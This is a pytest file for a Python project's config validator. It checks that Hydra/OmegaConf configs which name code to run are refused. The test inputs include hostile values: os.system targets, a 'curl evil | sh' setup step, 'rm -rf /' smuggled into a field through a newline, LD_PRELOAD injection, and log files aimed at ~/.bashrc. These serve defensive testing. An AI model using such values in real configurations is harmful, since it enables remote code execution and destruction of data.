"""A config cannot name code to run, wherever in it and however it is written."""

import pytest
from omegaconf import OmegaConf

from afr_clip.config.trusted import TARGETS, refuse_untrusted
from afr_clip.config.validate import ConfigError


@pytest.fixture(scope="module")
def hydra_config(composed):
    config = composed(return_hydra_config=True)
    config.hydra.launcher = OmegaConf.to_container(config.hydra.launcher)  # as a launcher's own file has it
    return config


@pytest.fixture
def merged(hydra_config):
    """The config of `train` with the content of someone's file merged into it."""

    def merge(content: str):
        OmegaConf.set_struct(hydra_config, False)
        config = OmegaConf.merge(hydra_config, OmegaConf.create(content))
        OmegaConf.set_readonly(config.hydra, False)
        return config

    return merge


@pytest.mark.parametrize(
    "content",
    [
        "hydra: {callbacks: {x: {_target_: os.system}}}",
        "hydra: {callbacks: {x: {_target_: 'functools.partial', _args_: [{_target_: os.system}]}}}",
        "hydra: {launcher: {_target_: evil.Launcher}}",
        "hydra: {sweeper: {_target_: evil.Sweeper}}",
        "hydra: {callbacks: {x: {_target_: '${other}'}}}\nother: os.system",
        "hydra: {callbacks: '${mine}'}\nmine: {x: {_target_: hydra.experimental.callbacks.LogJobReturnCallback}}",
        "hydra: {callbacks: {x: {_target_: hydra.experimental.callbacks.LogJobReturnCallback}}}",
        "hydra: {callbacks: {x: '${oc.create:\"{_target_: os.system}\"}'}}",
        "mine: [{deep: {_target_: os.system}}]",
        "hydra: {job_logging: {handlers: {x: {'()': os.system, command: ls}}}}",
        "hydra: {job_logging: {handlers: {file: {class: evil.Handler}}}}",
        "hydra: {job_logging: {handlers: {file: {class: logging.handlers.SMTPHandler}}}}",
        "hydra: {job_logging: {handlers: {file: {filename: /home/me/.bashrc}}}}",
        "hydra: {job_logging: {handlers: {file: {filename: '${hydra.runtime.output_dir}/../x'}}}}",
        "hydra: {job_logging: {handlers: {console: {stream: 'ext://evil.stream'}}}}",
        "hydra: {job_logging: {handlers: {console: {'.': {terminator: x}}}}}",
        "hydra: {job_logging: {formatters: {simple: {'()': evil.Formatter}}}}",
        "hydra: {job_logging: {filters: {x: {'()': evil.Filter}}}}",
        "hydra: {hydra_logging: {handlers: {x: {class: logging.FileHandler, filename: x.log}}}}",
        "hydra: {job: {name: ../../x}}",
        "hydra: {job: {env_set: {LD_PRELOAD: evil.so}}}",
        "hydra: {launcher: {setup: ['curl evil | sh']}}",
        'hydra: {launcher: {partition: "a\\nrm -rf /"}}',
        "hydra: {output_subdir: ../../x}",
    ],
)
def test_a_file_cannot_make_anything_run(merged, content):
    with pytest.raises(ConfigError):
        refuse_untrusted(merged(content), [])


@pytest.mark.parametrize("target", TARGETS)
def test_what_the_package_uses_may_be_named(merged, target):
    refuse_untrusted(merged(f"hydra: {{callbacks: {{x: {{_target_: {target}}}}}}}"), [])


@pytest.mark.parametrize("command", ["train", "evaluate", "predict", "calibrate", "export", "diagnose", "sweep"])
def test_every_command_is_trusted_as_it_comes(composed, command):
    refuse_untrusted(composed(command=command, return_hydra_config=True), [])


def test_what_reaches_a_shell_may_be_typed(merged):
    config = merged("hydra: {job: {env_set: {A: b}}, launcher: {setup: [module load cuda]}}")
    with pytest.raises(ConfigError, match=r"hydra\.job\.env_set reaches the shell"):
        refuse_untrusted(config, ["hydra.launcher.setup=[x]"])
    refuse_untrusted(config, ["+hydra.job.env_set.A=b", "hydra.launcher.setup=[module load cuda]"])


def test_a_file_may_choose_levels_and_axes(merged):
    refuse_untrusted(merged("hydra: {job_logging: {root: {level: INFO}}, sweeper: {params: {seed: '0,1'}}}"), [])
